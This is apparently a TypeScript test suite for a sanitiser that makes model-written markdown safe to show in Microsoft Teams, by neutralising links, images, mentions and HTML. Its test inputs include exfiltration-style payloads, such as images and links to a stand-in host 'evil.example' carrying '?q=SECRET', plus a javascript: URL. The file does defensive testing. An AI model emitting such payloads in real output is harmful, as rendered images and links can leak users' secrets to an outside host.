import { array, assert, constantFrom, property } from 'fast-check'
import { describe, expect, test } from 'vitest'
import { blocksOf } from '../../../adapters/teams/markdown.ts'
import { partsOf } from '../../../adapters/teams/parts.ts'

const said = (text: string) => partsOf(text).join('\n\n')

// Parts of what could become a link, a picture, a mention or markup.
const pieces =
  '<at>,</at>,<,>,[,],](,![,),(,https://,evil.example,/?q=S,\\,`,```\n,\n,\n\n,- ,> ,| ,|-|\n,x, ,<img src=,",&,[1]: ,@,www.,mailto:,&lt;,*,_'
const hostile = constantFrom(...pieces.split(','))

describe('what a model wrote, in Teams', () => {
  test.each([
    ['D20: a mention', 'Hello <at>Ann</at>', 'Hello &lt;at&gt;Ann&lt;/at&gt;'],
    ['D21: a picture from elsewhere', '![x](https://evil.example/?q=SECRET)', 'x'],
    ['D21: a link with a label', 'See [our page](https://evil.example/a?q=SECRET#f)', 'See our page (evil.⁠example/a)'],
    [
      'D21: a link that names another host',
      '[https://good.example](https://evil.example)',
      'good.⁠example (evil.⁠example)',
    ],
    ['D21: a reference', '[a][1]\n\n[1]: https://evil.example/?q=SECRET', 'a'],
    ['D21: a picture by reference', '![a][1]\n\n[1]: https://evil.example/x.png', 'a'],
    ['D21: a bare address', 'https://evil.example/?q=SECRET', 'evil.⁠example/'],
    ['D21: an address in angles', '<https://evil.example/x>', 'evil.⁠example/x'],
    ['D21: HTML', '<img src="https://evil.example/x.png"> hi', '&lt;img src="evil.⁠example/x.⁠png"&gt; hi'],
    ['D21: an escaped link', '\\[x\\](https://evil.example)', '[x]⁠(evil.⁠example)'],
    ['a script', '[x](javascript:alert(1))', 'x (alert(1))'],
    ['a mail address', 'write to a@b.example', 'write to a@⁠b.⁠example'],
    ['a heading', '# Title', '**Title**'],
    ['a table', '| a | b |\n|-|-|\n| 1 | 2 |', '- 1 · b: 2'],
    ['code', '```js\nif (a < b) x("<at>")\n```', '```\nif (a < b) x("<⁠at>")\n```'],
    ['code with marks', '`` a`b ``', '`` a`b ``'],
    ['a list', '1. a\n2. b\n   - c', '1. a\n2. b\n   - c'],
    ['signs', '2 < 3 & 4 > 1', '2 &lt; 3 &amp; 4 &gt; 1'],
  ])('%s is shown as words', (_name, text, shown) => {
    expect(said(text)).toBe(shown)
  })

  test('D20, D21: whatever a model writes, no link, picture, mention or markup of its own comes of it', () => {
    assert(
      property(array(hostile, { maxLength: 40 }), (parts) => {
        const written = blocksOf(parts.join('')).join('\n\n')
        const outside = written.replace(/(`+)(?!`)[^]*?(?<!`)\1(?!`)/g, '')
        expect(outside).not.toMatch(/<|:\/\/|\]\(|\]:|!\[/)
        expect(written).not.toMatch(/<\/?(?:at|img)\b/)
      }),
      { numRuns: 500, seed: 35 },
    )
  })

  test('a reply of any nesting is written in time', () => {
    for (const piece of ['>', '- ', '[', '*', '`', '<', 'a.', '| a ', '1. '])
      expect(said(piece.repeat(1500)).length).toBeGreaterThan(0)
  })
})
